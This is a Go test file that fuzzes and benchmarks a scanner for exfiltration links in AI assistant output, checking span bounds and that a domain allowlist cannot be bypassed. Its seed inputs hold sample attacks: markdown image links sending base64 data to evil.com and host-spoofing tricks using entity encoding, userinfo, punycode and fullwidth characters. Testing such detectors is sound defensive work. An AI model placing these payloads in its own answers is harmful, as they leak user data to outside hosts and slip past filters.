package links

import (
	"context"
	"github.com/aisecops/aisec/internal/guard/scanners/scannertest"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/aisecops/aisec/internal/guard/scanners"
)

// FuzzScan: any output gives in-range spans and UTF-8 excerpts, never a panic, with and
// without an allowlist; the allowlist never lets through a URL whose canonical host is not
// listed.
func FuzzScan(f *testing.F) {
	for _, seed := range []string{
		"![a](https://evil.com/log?q=" + b64 + ")",
		"[1]: https://x.com/?a=b\n![i][1]",
		`<img src="https&#58;//evil.com/x?q=1" srcset="a 1x, b 2x"><div style="background:url('//e.com/?d=x')">`,
		`https:\\evil.com\@example.com/ https://example.com@evil.com/ www.x.com`,
		"https://xn--bcher-kva.de/ https://ｅｘａｍｐｌｅ．ｃｏｍ/ https://%65vil.com/",
		"](](](](((<<<<img src=",
	} {
		f.Add(seed)
	}
	open := mustNew(f, Options{})
	listed := mustNew(f, Options{AllowedDomains: []string{"example.com"}})
	f.Fuzz(func(t *testing.T, text string) {
		for _, s := range []*Scanner{open, listed} {
			fs, err := s.Scan(context.Background(), &scanners.Request{Segments: []scanners.Segment{{Text: text}}})
			if err != nil {
				t.Fatal(err)
			}
			for _, fd := range fs {
				if fd.Start < 0 || fd.End > len(text) || fd.Start > fd.End || !utf8.ValidString(fd.Excerpt) {
					t.Fatalf("bad finding %+v for %d bytes", fd, len(text))
				}
			}
		}
		if tg, ok := parseTarget(text); ok && !domainMatch(tg.host, "example.com") && listed.allowed(tg.host) {
			t.Fatalf("host %q passes the allowlist", tg.host)
		}
	})
}

func FuzzPunycode(f *testing.F) {
	f.Add("bcher-kva")
	f.Add("ihqwcrb4cv8a8dqg056pqjye")
	f.Fuzz(func(t *testing.T, s string) {
		if out, ok := decodePunycode(s); ok && !utf8.ValidString(out) {
			t.Fatalf("invalid UTF-8 from %q", s)
		}
	})
}

func BenchmarkScan4KiB(b *testing.B) {
	s := mustNew(b, Options{})
	text := markdownAnswer(4096)
	req := &scanners.Request{Segments: []scanners.Segment{{Role: scanners.RoleAssistant, Text: text}}}
	scannertest.Bench(b, s, req)
}

func BenchmarkScanAllowlist4KiB(b *testing.B) {
	s := mustNew(b, Options{AllowedDomains: []string{"go.dev", "golang.org", "github.com"}})
	text := markdownAnswer(4096)
	req := &scanners.Request{Segments: []scanners.Segment{{Role: scanners.RoleAssistant, Text: text}}}
	scannertest.Bench(b, s, req)
}

// markdownAnswer is a link-rich answer of n bytes: the worst realistic case for this rule.
func markdownAnswer(n int) string {
	const para = "See the [Go documentation](https://go.dev/doc/effective_go#names) and " +
		"https://pkg.go.dev/net/url?tab=doc for details. ![gopher](https://go.dev/images/gophers/ladder.svg) " +
		"The time is 10:30: run `go test ./...` and read <a href=\"https://github.com/golang/go/issues/1\">issue 1</a>.\n\n"
	return strings.Repeat(para, n/len(para)+1)[:n]
}
